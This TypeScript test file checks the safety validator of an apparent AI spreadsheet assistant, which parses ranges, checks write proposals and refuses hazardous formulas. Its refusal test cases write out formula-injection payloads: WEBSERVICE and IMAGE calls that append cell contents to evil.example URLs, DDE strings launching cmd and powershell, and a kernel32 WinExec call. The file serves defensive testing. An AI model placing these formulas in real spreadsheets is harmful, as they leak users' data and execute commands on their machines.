import { describe, expect, it } from "vitest";
import { findFormulaHazards } from "@/lib/ai/tools/formula-hazards";
import { parseProposalRange } from "@/lib/ai/tools/parse-proposal-range";
import { PROPOSAL_LIMITS, validateProposal } from "@/lib/ai/tools/validate-proposal";

const explanation = "test";

describe("findFormulaHazards", () => {
  it.each([
    ['=WEBSERVICE("https://evil.example/?d="&A1)', "web_function"],
    ["=webservice(A1)", "web_function"],
    ['=_xlfn.WEBSERVICE("x")', "web_function"],
    ['=HYPERLINK("https://evil.example", "click")', "web_function"],
    ['=FILTERXML(WEBSERVICE("https://x.example/feed"), "//item")', "web_function"],
    ['=FILTERXML("https://x.example/feed", "//a")', "web_function"],
    ['=RTD("server.progid",,"topic")', "native_call"],
    ['=CALL("kernel32","WinExec","JCJ","calc",1)', "native_call"],
    ['=REGISTER.ID("user32","MessageBoxA")', "native_call"],
    ["=cmd|'/c calc'!A0", "dde"],
    ["+cmd|' /C powershell'!A0", "dde"],
    ["@SUM(cmd|'/c calc'!A0)", "dde"],
    ["=[Book2.xlsx]Sheet1!A1", "external_link"],
    ["='C:\\Users\\me\\[secret.xlsx]Sheet1'!A1", "external_link"],
    ["=SUM('\\\\server\\share\\[x.xlsm]Data'!B:B)", "external_link"],
    ["=[1]Sheet1!A1", "external_link"],
    ['=INDIRECT("[Other.xlsx]Sheet1!A1")', "external_link"],
    ['=IMAGE("https://evil.example/p.png?" & A1)', "web_function"],
    ['="see https://evil.example"', "url"],
  ])("refuses %s (%s)", (formula, code) => {
    expect(findFormulaHazards(formula).map((h) => h.code)).toContain(code);
  });

  it.each([
    "=SUM(B2:B13)",
    "=AVERAGE(Sheet1!C2:C41)",
    "=XLOOKUP(A2,'Price List'!A:A,'Price List'!B:B)",
    "=SUMIFS(Sales[Amount],Sales[Region],\"North\")",
    "=Table1[[#Headers],[Total]]",
    '=IF(A1>0,"Hyperlink text is fine in a string","")',
    '=FILTERXML("<a><b>1</b></a>","//b")',
    "=LET(x,A1,x*2)",
    "-5",
  ])("allows %s", (formula) => {
    expect(findFormulaHazards(formula)).toEqual([]);
  });
});

describe("parseProposalRange", () => {
  it("normalises one rectangle, sheet-qualified or not", () => {
    expect(parseProposalRange("sheet1!$b$2:c10")).toMatchObject({ ok: true, range: { address: "sheet1!B2:C10", rows: 9, columns: 2, cells: 18 } });
    expect(parseProposalRange("'My Sheet'!A1")).toMatchObject({ ok: true, range: { address: "'My Sheet'!A1", cells: 1 } });
    expect(parseProposalRange("C:C")).toMatchObject({ ok: true, range: { cells: 1_048_576 } });
  });

  it.each(["A1:B2,D1:D5", "[Book.xlsx]Sheet1!A1", "R1C1", "MyNamedRange", "A0", "XFE1", "Sheet1!", ""])("refuses %j", (address) => {
    expect(parseProposalRange(address).ok).toBe(false);
  });
});

describe("validateProposal", () => {
  it("accepts a write whose values match the range shape, and returns the normalised input", () => {
    const result = validateProposal("write_range", { address: "sheet1!d2:d3", formulas: [["=B2*C2"], ["=B3*C3"]], explanation });
    expect(result).toMatchObject({ ok: true, toolName: "write_range", input: { address: "sheet1!D2:D3" }, range: { cells: 2 } });
  });

  it("refuses a values matrix that does not match the range", () => {
    const result = validateProposal("write_range", { address: "A1:B2", values: [[1, 2]], explanation });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors[0]).toBe("values has 1 rows but A1:B2 has 2");
    const ragged = validateProposal("write_range", { address: "A1:B2", values: [[1, 2], [3]], explanation });
    expect(ragged.ok === false && ragged.errors[0]).toBe("values row 2 has 1 cells but A1:B2 is 2 columns wide");
  });

  it(`refuses writes over ${PROPOSAL_LIMITS.writeCells.toLocaleString("en-US")} cells`, () => {
    const result = validateProposal("write_range", { address: "A1:A10001", formulas: Array.from({ length: 10_001 }, () => ["=1"]), explanation });
    expect(result.ok === false && result.errors[0]).toBe("A1:A10001 is 10,001 cells; one proposal may write at most 10,000");
  });

  it("treats values starting with = + - @ as formulas and refuses dangerous ones", () => {
    const result = validateProposal("write_range", { address: "A1:C1", values: [["=WEBSERVICE(\"http://x.example\")", "+cmd|'/c calc'!A0", "-12.5"]], explanation });
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.errors).toHaveLength(3); // WEBSERVICE, its URL, and the DDE link; "-12.5" is fine
      expect(result.errors.some((e) => e.startsWith("A1 calls WEBSERVICE"))).toBe(true);
      expect(result.errors.some((e) => e.startsWith("B1 contains a DDE link"))).toBe(true);
    }
    expect(validateProposal("write_range", { address: "A1:B1", values: [["-12.5", "@home"]], explanation }).ok).toBe(true);
  });

  it("checks conditional-format formulas, sort and filter columns, and chart size", () => {
    expect(validateProposal("add_conditional_format", { address: "B2:B20", rule: { type: "custom_formula", formula: '=HYPERLINK("http://x")' }, explanation }).ok).toBe(false);
    expect(validateProposal("add_conditional_format", { address: "B2:B20", rule: { type: "custom_formula", formula: "=B2>AVERAGE($B$2:$B$20)", fillColor: "#FFC7CE" }, explanation }).ok).toBe(true);
    const sort = validateProposal("sort_range", { address: "A1:C20", hasHeaders: true, keys: [{ column: "D", ascending: true }], explanation });
    expect(sort.ok === false && sort.errors[0]).toBe("sort column D is outside A1:C20");
    expect(validateProposal("filter_range", { address: "A1:C20", column: "B", criteria: { type: "condition", operator: "GreaterThan", value: 100 }, explanation }).ok).toBe(true);
    expect(validateProposal("add_chart", { sourceAddress: "A1:Z5000", chartType: "Line", explanation }).ok).toBe(false);
    expect(validateProposal("add_chart", { sourceAddress: "A1:C13", chartType: "ColumnClustered", title: "Sales", explanation }).ok).toBe(true);
  });

  it("refuses unknown tools and schema violations with readable reasons", () => {
    expect(validateProposal("run_macro", {})).toEqual({ ok: false, toolName: "run_macro", errors: ['"run_macro" is not a change this assistant can propose'] });
    const bad = validateProposal("format_range", { address: "A1", fillColor: "red", explanation });
    expect(bad.ok === false && bad.errors[0]).toBe("fillColor: a colour as #RRGGBB");
    const external = validateProposal("create_table", { address: "[Book.xlsx]Sheet1!A1:B5", hasHeaders: true, explanation });
    expect(external.ok === false && external.errors[0]).toContain("is not an A1 range address");
  });
});
